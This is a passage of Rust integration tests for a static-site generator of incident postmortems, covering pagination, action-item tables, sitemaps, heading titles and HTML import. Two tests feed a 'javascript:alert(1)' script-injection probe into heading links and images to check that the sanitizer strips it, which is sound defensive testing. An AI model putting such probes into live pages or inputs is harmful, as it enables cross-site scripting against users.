fn a_last_page_of_one_item_names_it_in_the_singular() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("site");
    five_incident_site(&root, "title = \"KB\"\npaginate_by = 2\n");
    let out = tmp.path().join("public");
    build_ok(&root, &out);
    let third = std::fs::read_to_string(out.join("incidents/page/3/index.html")).unwrap();
    assert!(
        third.contains("<p class=\"muted\">Page 3 of 3: incident 5 of 5</p>"),
        "{third}"
    );
    let second = std::fs::read_to_string(out.join("incidents/page/2/index.html")).unwrap();
    assert!(second.contains("<p class=\"muted\">Page 2 of 3: incidents 3 to 4 of 5</p>"));
}

#[test]
fn a_paginate_by_of_0_keeps_every_list_on_one_page() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("site");
    five_incident_site(&root, "paginate_by = 0\n");
    let out = tmp.path().join("public");
    build_ok(&root, &out);
    let incidents = std::fs::read_to_string(out.join("incidents/index.html")).unwrap();
    assert!((1..=5).all(|n| incidents.contains(&format!("incidents/INC-{n}/\""))));
    assert!(!incidents.contains("aria-label=\"Pages\"") && !incidents.contains("rel=\"next\""));
    assert!(!out.join("incidents/page").exists() && !out.join("tags/db/page").exists());
}

#[test]
fn a_paginate_by_that_is_not_a_whole_number_is_an_error_at_its_value() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("site");
    five_incident_site(&root, "title = \"KB\"\npaginate_by = \"50\"\n");
    let o = build(&root, &tmp.path().join("public"));
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let err = stderr(&o);
    assert!(err.contains("hindsight.toml:2:15"), "{err}");
    assert!(err.contains("`paginate_by = 50`"), "{err}");
}

/// A site of four incidents of 2024 (INC-4 newest), with 20 action items (13 open, 1 with no
/// status, 4 done, 2 won't fix): in each incident two open and one done of Priya and one open
/// of no owner; in INC-2 one of Priya with no status;
/// in INC-1 one open of an owner named "Unassigned" and one won't fix of each of "Dave Smith"
/// and "dave-smith", whose names slugify alike. Every item's text is `Task <n><letter>`.
fn action_item_site(root: &Path, config: &str) {
    for n in 1..=4 {
        let mut items = format!(
            "  - {{text: Task {n}a, owner: Priya, status: open}}\n  - {{text: Task {n}b, owner: Priya, status: open}}\n  - {{text: Task {n}c, owner: Priya, status: done}}\n  - {{text: Task {n}d, status: open}}\n"
        );
        if n == 2 {
            items.push_str("  - {text: Task 2e, owner: Priya}\n");
        }
        if n == 1 {
            items.push_str("  - {text: Task 1f, owner: Unassigned, status: open}\n  - {text: Task 1g, owner: Dave Smith, status: wontfix}\n  - {text: Task 1h, owner: dave-smith, status: wontfix}\n");
        }
        write_files(
            root,
            &[(
                &format!("content/INC-{n}.md"),
                &format!(
                    "---\nid: INC-{n}\ntitle: Outage {n}\ndate: 2024-05-0{n}\naction_items:\n{items}---\n\n## Summary\n\nThe database stopped, time {n}.\n"
                ),
            )],
        );
    }
    write_files(root, &[("hindsight.toml", config)]);
}

#[test]
fn a_long_action_item_list_becomes_a_table_of_owners_by_status_that_links_to_each_list() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("site");
    action_item_site(
        &root,
        "title = \"KB\"\nbase_url = \"https://kb.example.org/\"\npaginate_by = 3\n",
    );
    let out = tmp.path().join("public");
    build_ok(&root, &out);
    let read = |p: &str| std::fs::read_to_string(out.join(p)).unwrap_or_else(|_| panic!("{p}"));
    let summary = read("action-items/index.html");
    // The totals, as on the page of every item, and no item on it.
    assert!(
        summary.contains("<p>13 open, 1 with no status recorded, 4 done, 2 won't fix.</p>"),
        "{summary}"
    );
    assert!(!summary.contains("Task 1a") && !summary.contains("On this page"));
    // A table with a caption, its statuses as column headers and its owners as row headers,
    // in the order of the one-page list (by name, the items of no owner last).
    assert!(summary.contains("<caption id=\"owners-caption\">"));
    let header = "<th scope=\"col\">Owner</th><th scope=\"col\">Open</th><th scope=\"col\">Status not recorded</th><th scope=\"col\">Done</th><th scope=\"col\">Won&#39;t fix</th><th scope=\"col\">Total</th>";
    assert!(summary.contains(header), "{summary}");
    let rows: Vec<&str> = summary
        .split("<th scope=\"row\">")
        .skip(1)
        .map(|r| r.split('<').next().unwrap())
        .collect();
    assert_eq!(
        rows,
        [
            "Dave Smith",
            "dave-smith",
            "Priya",
            "Unassigned",
            "No owner recorded",
            "All owners"
        ]
    );
    // Each count but 0 links to its list, and says what it counts.
    let priya = summary
        .split("<th scope=\"row\">Priya</th>")
        .nth(1)
        .unwrap()
        .split("</tr>")
        .next()
        .unwrap();
    assert_eq!(
        priya,
        "<td><a href=\"../action-items/open/priya/\">8<span class=\"visually-hidden\"> open action items: Priya</span></a></td>\
         <td><a href=\"../action-items/unrecorded/priya/\">1<span class=\"visually-hidden\"> action item with no status recorded: Priya</span></a></td>\
         <td><a href=\"../action-items/done/priya/\">4<span class=\"visually-hidden\"> action items marked done: Priya</span></a></td>\
         <td>0</td><td>13</td>"
    );
    assert!(summary.contains(
        "<th scope=\"row\">All owners</th><td><a href=\"../action-items/open/\">13<span class=\"visually-hidden\"> open action items, by owner</span></a></td>"
    ), "{summary}");
    // Owners whose names slugify alike, and one named "Unassigned", get URLs of their own.
    for url in [
        "wontfix/dave-smith/",
        "wontfix/dave-smith-2/",
        "open/unassigned/",
        "open/unassigned-2/",
    ] {
        assert_eq!(
            summary
                .matches(&format!("href=\"../action-items/{url}\""))
                .count(),
            1,
            "{url}"
        );
    }
    assert!(read("action-items/open/unassigned-2/index.html")
        .contains("<h1>Open action items: Unassigned <span class=\"count\">1</span></h1>"));
    assert!(read("action-items/open/unassigned/index.html").contains("Task 4d"));

    // Priya's 8 open items, three a page, grouped by incident, newest first.
    let first = read("action-items/open/priya/index.html");
    let second = read("action-items/open/priya/page/2/index.html");
    let third = read("action-items/open/priya/page/3/index.html");
    assert!(!out.join("action-items/open/priya/page/4").exists());
    // Page 1 is the list itself, and redirects to it; a list of one page has no page 1.
    for from in ["page/1/", "page/"] {
        let page = read(&format!("action-items/open/priya/{from}index.html"));
        assert!(
            page.contains("<title>Moved: Open action items: Priya</title>"),
            "{page}"
        );
        assert!(page.contains(
            "<link rel=\"canonical\" href=\"https://kb.example.org/action-items/open/priya/\">"
        ));
    }
    assert!(!out.join("action-items/unrecorded/priya/page").exists());
    assert!(first.contains("<title>Open action items: Priya, page 1 of 3 · KB</title>"));
    assert!(second.contains("<title>Open action items: Priya, page 2 of 3 · KB</title>"));
    let tasks = |page: &str| -> Vec<String> {
        page.split("<span class=\"action-text\">")
            .skip(1)
            .map(|s| s.split('<').next().unwrap().to_string())
            .collect()
    };
    assert_eq!(tasks(&first), ["Task 4a", "Task 4b", "Task 3a"]);
    assert_eq!(tasks(&second), ["Task 3b", "Task 2a", "Task 2b"]);
    assert_eq!(tasks(&third), ["Task 1a", "Task 1b"]);
    // INC-3's items run on to page 2, headed again there.
    assert_eq!(second.matches("<h2 class=\"action-incident\">").count(), 2);
    assert!(second.contains("Outage 3</a> <span class=\"id\">INC-3</span> <time datetime=\"2024-05-03\">2024-05-03</time> <span class=\"muted\">(continued from the previous page)</span></h2>"), "{second}");
    assert!(!first.contains("continued") && !third.contains("continued"));
    // Both page navigations, the head's links, and the way back to the summary.
    let up = "../../../../../";
    assert!(second.contains("<nav class=\"pages\" aria-label=\"Pages\">"));
    assert!(second.contains("<nav class=\"pages\" aria-label=\"Pages, at the end of the list\">"));
    assert!(second.contains("Page 2 of 3: action items 4 to 6 of 8"));
    assert!(second.contains(&format!(
        "<link rel=\"prev\" href=\"{up}action-items/open/priya/\">"
    )));
    assert!(second.contains(&format!(
        "<link rel=\"next\" href=\"{up}action-items/open/priya/page/3/\">"
    )));
    assert!(second.contains(&format!(
        "<p class=\"eyebrow\"><a href=\"{up}action-items/\">Action items</a></p>"
    )));
    // And to the owner's lists of the other statuses.
    assert!(second.contains(&format!(
        "Other action items of Priya: <a href=\"{up}action-items/unrecorded/priya/\">1 with no status recorded</a>, <a href=\"{up}action-items/done/priya/\">4 done</a>.</p>"
    )), "{second}");

    // Every list page is in the sitemap, and every item is on exactly one of them.
    let sitemap = read("sitemap.xml");
    let lists: Vec<&str> = sitemap
        .split("<loc>https://kb.example.org/")
        .skip(1)
        .map(|s| s.split('<').next().unwrap())
        .filter(|u| u.starts_with("action-items/") && *u != "action-items/")
        .collect();
    assert_eq!(
        lists,
        [
            "action-items/open/",
            "action-items/open/priya/",
            "action-items/open/priya/page/2/",
            "action-items/open/priya/page/3/",
            "action-items/open/unassigned-2/",
            "action-items/open/unassigned/",
            "action-items/open/unassigned/page/2/",
            "action-items/unrecorded/",
            "action-items/unrecorded/priya/",
            "action-items/done/",
            "action-items/done/priya/",
            "action-items/done/priya/page/2/",
            "action-items/wontfix/",
            "action-items/wontfix/dave-smith/",
            "action-items/wontfix/dave-smith-2/",
        ]
    );
    let mut seen: Vec<String> = lists
        .iter()
        .filter(|u| u.matches('/').count() > 2)
        .flat_map(|u| tasks(&read(&format!("{u}index.html"))))
        .collect();
    seen.sort();
    let mut all: Vec<String> = (1..=4)
        .flat_map(|n| ["a", "b", "c", "d"].map(|l| format!("Task {n}{l}")))
        .chain(["Task 2e", "Task 1f", "Task 1g", "Task 1h"].map(String::from))
        .collect();
    all.sort();
    assert_eq!(seen, all);
    // What was built is what the sitemap names, and the redirects of page 1 (`page/1/` and
    // `page/`) of each list that has a page 2: no other page under action-items/.
    let built: std::collections::BTreeSet<String> = tree(&out.join("action-items"))
        .into_keys()
        .filter(|p| p.ends_with("index.html"))
        .collect();
    let mut expected: std::collections::BTreeSet<String> =
        std::iter::once("index.html".to_string()).collect();
    for u in &lists {
        let u = u.strip_prefix("action-items/").unwrap();
        expected.insert(format!("{u}index.html"));
        if let Some(list) = u.strip_suffix("page/2/") {
            expected.insert(format!("{list}page/1/index.html"));
            expected.insert(format!("{list}page/index.html"));
        }
    }
    assert_eq!(built, expected);
}

#[test]
fn a_count_of_one_in_the_action_items_table_is_read_in_the_singular() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("site");
    action_item_site(&root, "title = \"KB\"\npaginate_by = 3\n");
    let out = tmp.path().join("public");
    build_ok(&root, &out);
    let summary = std::fs::read_to_string(out.join("action-items/index.html")).unwrap();
    assert!(summary.contains(
        "<a href=\"../action-items/wontfix/dave-smith/\">1<span class=\"visually-hidden\"> action item marked won&#39;t fix: Dave Smith</span></a>"
    ), "{summary}");
    assert!(summary.contains(
        "<a href=\"../action-items/unrecorded/\">1<span class=\"visually-hidden\"> action item with no status recorded, by owner</span></a>"
    ), "{summary}");
    assert!(summary.contains(
        "<a href=\"../action-items/done/priya/\">4<span class=\"visually-hidden\"> action items marked done: Priya</span></a>"
    ));
}

#[test]
fn a_list_of_action_items_cut_back_to_its_status_is_a_page_of_that_status_s_owners_not_a_404() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("site");
    action_item_site(&root, "title = \"KB\"\npaginate_by = 3\n");
    let out = tmp.path().join("public");
    build_ok(&root, &out);
    let page = std::fs::read_to_string(out.join("action-items/open/index.html")).unwrap();
    assert!(
        page.contains("<title>Open action items · KB</title>"),
        "{page}"
    );
    assert!(
        page.contains("<p class=\"eyebrow\"><a href=\"../../action-items/\">Action items</a></p>")
    );
    assert!(page.contains("<h1>Open action items <span class=\"count\">13</span></h1>"));
    // Each owner of an open item, in the summary's order, linked to their list.
    let owners: Vec<&str> = page
        .split("<li class=\"row\"><a href=\"../../")
        .skip(1)
        .map(|r| r.split("</span>").next().unwrap())
        .collect();
    // Each count says what it counts to a screen reader, as the tags' counts do.
    assert_eq!(
        owners,
        [
            "action-items/open/priya/\">Priya</a> <span class=\"count\">8<span class=\"visually-hidden\"> action items",
            "action-items/open/unassigned-2/\">Unassigned</a> <span class=\"count\">1<span class=\"visually-hidden\"> action item",
            "action-items/open/unassigned/\">No owner recorded</a> <span class=\"count\">4<span class=\"visually-hidden\"> action items",
        ]
    );
    assert!(page.contains("Other action items: <a href=\"../../action-items/unrecorded/\">1 with no status recorded</a>, <a href=\"../../action-items/done/\">4 done</a>, <a href=\"../../action-items/wontfix/\">2 won&#39;t fix</a>.</p>"), "{page}");
}

#[test]
fn a_site_with_no_more_action_items_than_paginate_by_keeps_them_on_one_page_as_before() {
    let tmp = tempfile::tempdir().unwrap();
    let (root, out) = (tmp.path().join("site"), tmp.path().join("public"));
    // 20 action items, and lists of 20 at most: the same site as with no limit at all.
    action_item_site(&root, "title = \"KB\"\npaginate_by = 20\n");
    build_ok(&root, &out);
    let one = tmp.path().join("one-page");
    write_files(
        &root,
        &[("hindsight.toml", "title = \"KB\"\npaginate_by = 0\n")],
    );
    build_ok(&root, &one);
    assert!(
        tree(&out) == tree(&one),
        "paginate_by = 20 changed the site"
    );
    let page = std::fs::read_to_string(out.join("action-items/index.html")).unwrap();
    assert!(page.contains("<h2 id=\"jump-h\">On this page</h2>") && page.contains("Task 1h"));
    assert!(!out.join("action-items/open").exists());
}

#[test]
fn an_owner_named_unassigned_and_the_items_of_no_owner_are_told_apart_on_every_action_items_page() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("site");
    // One page of every item, then a summary with a list of each owner's items of each status.
    for (config, out) in [
        ("paginate_by = 0\n", "one"),
        ("paginate_by = 3\n", "summary"),
    ] {
        action_item_site(&root, &format!("title = \"KB\"\n{config}"));
        let out = tmp.path().join(out);
        build_ok(&root, &out);
        let read = |p: &str| std::fs::read_to_string(out.join(p)).unwrap();
        let page = read("action-items/index.html");
        if config.contains('0') {
            // Each owner's heading is its own, with an anchor of its own that the contents link.
            let headings: Vec<&str> = page
                .split("<h3 id=\"")
                .skip(1)
                .map(|h| h.split(" <span").next().unwrap())
                .collect();
            assert_eq!(
                headings,
                [
                    "open-priya\">Priya",
                    "open-unassigned-2\">Unassigned",
                    "open-unassigned\">No owner recorded",
                    "unrecorded-priya\">Priya",
                    "done-priya\">Priya",
                    "wontfix-dave-smith\">Dave Smith",
                    "wontfix-dave-smith-2\">dave-smith",
                ]
            );
            assert!(page.contains("<a href=\"#open-unassigned-2\">Unassigned</a>"));
            assert!(page.contains("<a href=\"#open-unassigned\">No owner recorded</a>"));
        } else {
            assert!(page.contains("<th scope=\"row\">Unassigned</th>"));
            assert!(page.contains("<th scope=\"row\">No owner recorded</th>"));
            assert!(read("action-items/open/unassigned/index.html").contains(
                "<h1>Open action items: No owner recorded <span class=\"count\">4</span></h1>"
            ));
            assert!(read("action-items/open/unassigned-2/index.html")
                .contains("<h1>Open action items: Unassigned <span class=\"count\">1</span></h1>"));
        }
    }
}

#[test]
fn an_image_in_the_first_heading_stays_on_the_incident_page_where_the_title_reads_its_alt_text() {
    let site = Site::with(&[
        (
            "content/a.md",
            "---\nid: INC-3\ndate: 2026-11-03\n---\n# INC-3: Queue full ![logo](logo.png)\n\nText.\n",
        ),
        ("content/logo.png", "PNG"),
        // An image inside a link stays too, inside the link.
        (
            "content/b.md",
            "---\nid: INC-4\ndate: 2026-11-04\n---\n# Disk full [![badge](logo.png)](https://ci.example/4)\n\nText.\n",
        ),
    ]);
    site.build_ok();
    let page = site.page("incidents/INC-3/index.html");
    assert!(
        page.contains(
            "<h1 id=\"incident-title\">Queue full <img src=\"logo.png\" alt=\"logo\"></h1>"
        ),
        "{page}"
    );
    assert!(site.out.join("incidents/INC-3/logo.png").is_file());
    // Elsewhere the title is text: the alt text, as written.
    assert_eq!(site.incident("INC-3")["title"], "Queue full logo");
    let list = site.page("incidents/index.html");
    assert!(
        list.contains("Queue full logo") && !list.contains("<img"),
        "{list}"
    );
    let linked = site.page("incidents/INC-4/index.html");
    assert!(
        linked.contains(
            "<h1 id=\"incident-title\">Disk full <a href=\"https://ci.example/4\"><img src=\"logo.png\" alt=\"badge\"></a></h1>"
        ),
        "{linked}"
    );
}

#[test]
fn an_image_inside_a_link_of_the_first_heading_stays_in_the_link_on_the_incident_page_only() {
    let site = Site::with(&[
        (
            "content/a.md",
            "---\nid: INC-3\ndate: 2026-11-03\n---\n# INC-3: Queue full [![logo](logo.png)](https://example.com)\n\nText.\n",
        ),
        ("content/logo.png", "PNG"),
        // Words and images in one link, each image where it was written (after the same word
        // as its alt text); an image whose URL could run a script stays its alt text, as the
        // body's sanitizer leaves no such image.
        (
            "content/b.md",
            "---\nid: INC-4\ndate: 2026-11-04\n---\n# Disk full [db ![db](logo.png) and ![x](javascript:alert(1))](https://ci.example/4)\n\nText.\n",
        ),
    ]);
    site.build_ok();
    let page = site.page("incidents/INC-3/index.html");
    assert!(
        page.contains(
            "<h1 id=\"incident-title\">Queue full <a href=\"https://example.com\"><img src=\"logo.png\" alt=\"logo\"></a></h1>"
        ),
        "{page}"
    );
    assert!(site.out.join("incidents/INC-3/logo.png").is_file());
    // Elsewhere the title is text: the alt text, as written.
    assert_eq!(site.incident("INC-3")["title"], "Queue full logo");
    assert!(page.contains("<title>Queue full logo · "), "{page}");
    let list = site.page("incidents/index.html");
    assert!(
        list.contains("Queue full logo") && !list.contains("<img"),
        "{list}"
    );
    let feed = site.page("feed.xml");
    assert!(
        feed.contains("<title>Queue full logo</title>") && !feed.contains("img"),
        "{feed}"
    );
    let mixed = site.page("incidents/INC-4/index.html");
    assert!(
        mixed.contains(
            "<h1 id=\"incident-title\">Disk full <a href=\"https://ci.example/4\">db <img src=\"logo.png\" alt=\"db\"> and x</a></h1>"
        ),
        "{mixed}"
    );
    assert!(!mixed.contains("javascript:"), "{mixed}");
}

#[test]
fn an_image_without_alt_text_in_a_link_of_the_first_heading_gives_no_words_and_a_heading_of_nothing_else_no_title(
) {
    let site = Site::with(&[
        (
            "content/a.md",
            "---\nid: INC-5\ndate: 2026-11-05\n---\n# [![](logo.png)](https://x.example) Outage\n\nText.\n",
        ),
        ("content/logo.png", "PNG"),
        // A heading of nothing but such an image gives no title: the file's name does.
        (
            "content/INC-6 Badge outage.md",
            "---\ndate: 2026-11-06\n---\n# [![](logo.png)](https://x.example)\n\nText.\n",
        ),
    ]);
    site.build_ok();
    let page = site.page("incidents/INC-5/index.html");
    assert_eq!(site.incident("INC-5")["title"], "Outage");
    assert!(page.contains("<title>Outage · "), "{page}");
    assert!(
        page.contains("<h1 id=\"incident-title\">Outage</h1>"),
        "{page}"
    );
    // The link is kept by the id, named by its URL: it has no words of its own.
    assert!(
        page.contains("<span class=\"id\">INC-5</span> <a class=\"title-link\" href=\"https://x.example\">https://x.example</a>"),
        "{page}"
    );
    let page = site.page("incidents/INC-6/index.html");
    assert_eq!(site.incident("INC-6")["title"], "Badge outage");
    assert!(page.contains("<title>Badge outage · "), "{page}");
    assert!(
        page.contains("<h1 id=\"incident-title\">Badge outage</h1>"),
        "{page}"
    );
    for list in ["incidents/index.html", "index.html", "feed.xml"] {
        let html = site.page(list);
        for title in ["Outage", "Badge outage"] {
            assert!(html.contains(&format!(">{title}<")), "{list}: {html}");
        }
        for garbage in ["![", "](", "logo.png", "/\"></a>", "<title></title>"] {
            assert!(!html.contains(garbage), "{garbage} in {list}: {html}");
        }
    }
}

#[test]
fn a_link_in_the_first_heading_stays_on_the_incident_page_while_the_title_stays_plain_text() {
    let site = Site::with(&[
        (
            "content/2026-11-02-db-failover.md",
            "# [INC-12](https://tracker.example/INC-12): Database failover stalled\n\nThe replica never took over.\n",
        ),
        // The incident's own id before the title leaves the title; its link is kept on the id.
        (
            "content/c.md",
            "---\nid: INC-13\ndate: 2026-11-03\n---\n# [INC-13](https://tracker.example/INC-13): Cache stampede after [the deploy](https://ci.example/run/7)\n\nText.\n",
        ),
        // A label that leaves the title: its link is shown by the id.
        (
            "content/d.md",
            "---\nid: INC-14\ndate: 2026-11-04\n---\n# [Postmortem](https://wiki.example/pm-14): Queue stalled\n\nText.\n",
        ),
        // A link that could run a script is its text alone.
        (
            "content/e.md",
            "---\nid: INC-15\ndate: 2026-11-05\n---\n# [Queue](javascript:alert(1)) full\n\nText.\n",
        ),
    ]);
    site.build_ok();
    let title = |id: &str| site.incident(id)["title"].as_str().unwrap().to_string();
    assert_eq!(
        title("2026-11-02-db-failover"),
        "INC-12: Database failover stalled"
    );
    assert_eq!(title("INC-13"), "Cache stampede after the deploy");
    assert_eq!(title("INC-14"), "Queue stalled");
    assert_eq!(title("INC-15"), "Queue full");

    let page = site.page("incidents/2026-11-02-db-failover/index.html");
    assert!(
        page.contains("<h1 id=\"incident-title\"><a href=\"https://tracker.example/INC-12\">INC-12</a>: Database failover stalled</h1>"),
        "{page}"
    );
    assert!(
        page.contains("<title>INC-12: Database failover stalled"),
        "{page}"
    );
    let page = site.page("incidents/INC-13/index.html");
    assert!(
        page.contains("<a class=\"id\" href=\"https://tracker.example/INC-13\">INC-13</a>"),
        "{page}"
    );
    assert!(
        page.contains("<h1 id=\"incident-title\">Cache stampede after <a href=\"https://ci.example/run/7\">the deploy</a></h1>"),
        "{page}"
    );
    let page = site.page("incidents/INC-14/index.html");
    assert!(
        page.contains("<span class=\"id\">INC-14</span> <a class=\"title-link\" href=\"https://wiki.example/pm-14\">Postmortem</a>"),
        "{page}"
    );
    assert!(
        page.contains("<h1 id=\"incident-title\">Queue stalled</h1>"),
        "{page}"
    );
    let page = site.page("incidents/INC-15/index.html");
    assert!(!page.contains("javascript:"), "{page}");
    assert!(
        page.contains("<h1 id=\"incident-title\">Queue full</h1>"),
        "{page}"
    );

    // Lists and feeds show the title as text: no link inside the link to the page.
    for list in ["incidents/index.html", "index.html", "feed.xml"] {
        let html = site.page(list);
        assert!(!html.contains("tracker.example"), "{list}: {html}");
        assert!(html.contains("INC-12: Database failover stalled"), "{list}");
    }
}

#[test]
fn incidents_of_one_date_are_listed_later_id_first_everywhere_and_undated_ones_last() {
    let pm = |id: &str, title: &str, date: &str| {
        let date = if date.is_empty() {
            String::new()
        } else {
            format!("date: {date}\n")
        };
        format!("---\nid: {id}\ntitle: {title}\n{date}tags: [disk]\nservices: [db]\nseverity: SEV2\n---\n# {title}\n\n## Summary\n\nIt broke.\n")
    };
    let files = [
        ("content/a.md", pm("PM2021-9", "Ninth", "2021-03-04")),
        ("content/b.md", pm("PM2021-10", "Tenth", "2021-03-04")),
        ("content/c.md", pm("PM2021-11", "Eleventh", "2021-03-01")),
        ("content/d.md", pm("PM2021-2", "Dateless", "")),
    ];
    let files: Vec<(&str, &str)> = files.iter().map(|(p, t)| (*p, t.as_str())).collect();
    let site = Site::with(&files);
    site.build_ok();
    // The order the titles stand in on a page (each title once, as a link to its page).
    let order = |path: &str, titles: &[&str]| {
        let page = site.page(path);
        let at: Vec<usize> = titles
            .iter()
            .map(|t| {
                page.find(t)
                    .unwrap_or_else(|| panic!("{path}: no {t}: {page}"))
            })
            .collect();
        assert!(
            at.windows(2).all(|w| w[0] < w[1]),
            "{path}: {titles:?} {at:?}"
        );
    };
    let all = ["Tenth", "Ninth", "Eleventh", "Dateless"];
    order("incidents/index.html", &all);
    order("index.html", &all);
    order("tags/disk/index.html", &all);
    order("services/db/index.html", &all);
    order("severity/sev2/index.html", &all);
    order("years/2021/index.html", &["Tenth", "Ninth", "Eleventh"]);
    order("feed.xml", &["Tenth", "Ninth", "Eleventh"]);
    assert_eq!(
        exported(&site.out, "id"),
        ["PM2021-10", "PM2021-9", "PM2021-11", "PM2021-2"]
    );
    // The terminal's search lists them as the site does.
    let o = bin()
        .args(["search", "", "--tag", "disk", "--root"])
        .arg(&site.root)
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", stderr(&o));
    let out = String::from_utf8_lossy(&o.stdout);
    let at: Vec<usize> = ["PM2021-10", "PM2021-9", "PM2021-11", "PM2021-2"]
        .iter()
        .map(|id| out.find(id).unwrap_or_else(|| panic!("{id}: {out}")))
        .collect();
    assert!(at.windows(2).all(|w| w[0] < w[1]), "{out}");
}

#[test]
fn an_out_folder_that_holds_the_sources_is_refused_with_how_to_choose_another() {
    let site = Site::with(&[("content/a.md", "# Disk full\n\nThe disk filled up.\n")]);
    for out in [".", "content"] {
        let o = bin()
            .args(["build", "--quiet", "--root"])
            .arg(&site.root)
            .arg("--out")
            .arg(site.root.join(out))
            .output()
            .unwrap();
        let err = stderr(&o);
        assert_eq!(o.status.code(), Some(2), "{err}");
        assert!(err.contains("refusing to use"), "{err}");
        assert!(
            err.contains("help: every build replaces the output folder: give it a folder of its own, such as \"public\" (`--out public`"),
            "{err}"
        );
        assert_eq!(
            std::fs::read_to_string(site.root.join("content/a.md")).unwrap(),
            "# Disk full\n\nThe disk filled up.\n"
        );
    }
}

#[test]
fn an_empty_tags_services_or_severity_page_says_how_a_postmortem_states_them() {
    let site = Site::with(&[(
        "content/a.md",
        "# Disk full\n\nOn 2024-01-05 the disk filled up.\n",
    )]);
    site.build_ok();
    for (page, front, text) in [
        ("tags", "tags: [dns, database]", "Tags: dns, database"),
        (
            "services",
            "services: [checkout, payments]",
            "Services: checkout, payments",
        ),
        ("severity", "severity: SEV2", "Severity: SEV2"),
    ] {
        let html = site.page(&format!("{page}/index.html"));
        assert!(
            html.contains(&format!("No incident has {page} yet.")),
            "{html}"
        );
        assert!(html.contains(&format!("<code>{front}</code>")), "{html}");
        assert!(html.contains(&format!("<code>{text}</code>")), "{html}");
    }
    // The statistics page leads there from each of its empty lists.
    let stats = site.page("stats/index.html");
    for page in ["tags", "services", "severity"] {
        assert!(
            stats.contains(&format!(
                "(<a href=\"../{page}/\">how a postmortem states them</a>)"
            )),
            "{stats}"
        );
    }
}

/// The texts of an incident's `learnings` or `action_items` in the export.
fn texts_of(incident: &serde_json::Value, key: &str) -> Vec<String> {
    incident[key]
        .as_array()
        .unwrap()
        .iter()
        .map(|x| x["text"].as_str().unwrap().to_string())
        .collect()
}

#[test]
fn a_postmortem_written_in_html_has_its_title_sections_learnings_and_action_items_read() {
    // As a page saved from a wiki or pasted from a rich-text editor reads: no Markdown at all.
    let site = Site::with(&[(
        "content/checkout.md",
        "<h1>Checkout outage</h1>\n\
         <p><strong>Date:</strong> 2023-04-02</p>\n\
         <h2>Summary</h2>\n\
         <p>Checkout failed for 20 minutes\n  after a <em>config</em> push.</p>\n\
         <h2>Lessons learned</h2>\n\
         <ul>\n  <li>Config changes need review like code</li>\n  <li>Push config to a <a href=\"https://example.org/canary\">canary</a> first</li>\n</ul>\n\
         <h2>Action items</h2>\n\
         <ul><li>Add config validation to CI (team-checkout)</li>\n\
         <li>Page on checkout errors</li></ul>\n",
    )]);
    site.build_ok();
    let i = site.incident("checkout");
    assert_eq!(i["title"], "Checkout outage", "{i}");
    assert_eq!(i["date"], "2023-04-02", "{i}");
    assert_eq!(
        i["summary"], "Checkout failed for 20 minutes after a config push.",
        "{i}"
    );
    let texts = |key: &str| texts_of(&i, key);
    assert_eq!(
        texts("learnings"),
        [
            "Config changes need review like code",
            "Push config to a canary first"
        ]
    );
    assert_eq!(
        texts("action_items"),
        ["Add config validation to CI", "Page on checkout errors"]
    );
    assert_eq!(i["action_items"][0]["owner"], "team-checkout", "{i}");
    // Its headings are the page's sections, with anchors, and its link is kept.
    let page = site.page("incidents/checkout/index.html");
    assert!(page.contains("<h2 id=\"lessons-learned\">Lessons learned <a class=\"anchor\" href=\"#lessons-learned\""), "{page}");
    assert!(
        page.contains("<a href=\"https://example.org/canary\">canary</a>"),
        "{page}"
    );
    // Findings name the line the element is written on: the item with no owner, line 13.
    let (_, findings) = check_json(&site.root, &[]);
    let owner: Vec<u64> = findings
        .iter()
        .filter(|f| f["rule"] == "action-owner")
        .map(|f| f["line"].as_u64().unwrap())
        .collect();
    assert_eq!(owner, [13], "{findings:?}");
}

#[test]
fn a_postmortem_copied_from_google_docs_is_read_and_published_without_its_styles() {
    // The HTML a Google Docs copy puts on the clipboard, saved as it is: one line, every
    // element styled, the page wrapped in a `<b>`, a nested list written inside its list.
    let span = |style: &str, text: &str| {
        format!("<span style=\"font-family:Arial;color:#000000;{style}\">{text}</span>")
    };
    let item = |level: u8, text: &str| {
        format!(
            "<li dir=\"ltr\" style=\"list-style-type:disc;\" aria-level=\"{level}\"><p dir=\"ltr\" role=\"presentation\" style=\"line-height:1.38;\">{}</p></li>",
            span("font-weight:400;", text)
        )
    };
    let row = |cells: &[&str]| -> String {
        let cells: Vec<String> = cells
            .iter()
            .map(|c| {
                format!(
                    "<td style=\"padding:5pt;\"><p dir=\"ltr\">{}</p></td>",
                    span("", c)
                )
            })
            .collect();
        format!("<tr style=\"height:0pt\">{}</tr>", cells.concat())
    };
    let body = format!(
        "<meta charset=\"utf-8\"><b style=\"font-weight:normal;\" id=\"docs-internal-guid-5e1c\">\
         <h1 dir=\"ltr\" style=\"line-height:1.38;margin-top:20pt;\">{}</h1>\
         <p dir=\"ltr\" style=\"line-height:1.38;\">{}{}</p>\
         <div dir=\"ltr\" align=\"left\"><table style=\"border:none;\"><colgroup><col width=\"120\"><col width=\"480\"></colgroup><tbody>\
         <tr><td><p dir=\"ltr\">{}</p></td><td><p dir=\"ltr\">{}</p></td></tr></tbody></table></div>\
         <p dir=\"ltr\"><span><img src=\"https://lh7-us.googleusercontent.com/docsz/graph\" width=\"602\" height=\"300\" alt=\"Error rate graph\"></span></p>\
         <h2 dir=\"ltr\" style=\"line-height:1.38;\">{}</h2>\
         <ul style=\"margin-top:0;\">{}<ul style=\"margin-top:0;\">{}</ul>{}</ul>\
         <h2 dir=\"ltr\">{}</h2><div dir=\"ltr\"><table style=\"border:none;\"><tbody>{}{}</tbody></table></div>\
         </b><br class=\"Apple-interchange-newline\">\n",
        span("font-size:20pt;", "Checkout outage"),
        span("font-weight:700;", "Date:"),
        span("font-weight:400;", " 2023-04-02"),
        span("", "09:12"),
        span("", "Checkout errors start"),
        span("font-size:16pt;", "Lessons learned"),
        item(1, "Config changes need review like code"),
        item(2, "Even a one-line change"),
        item(1, "Push config to a canary first"),
        span("", "Action items"),
        row(&["Action", "Owner", "Status"]),
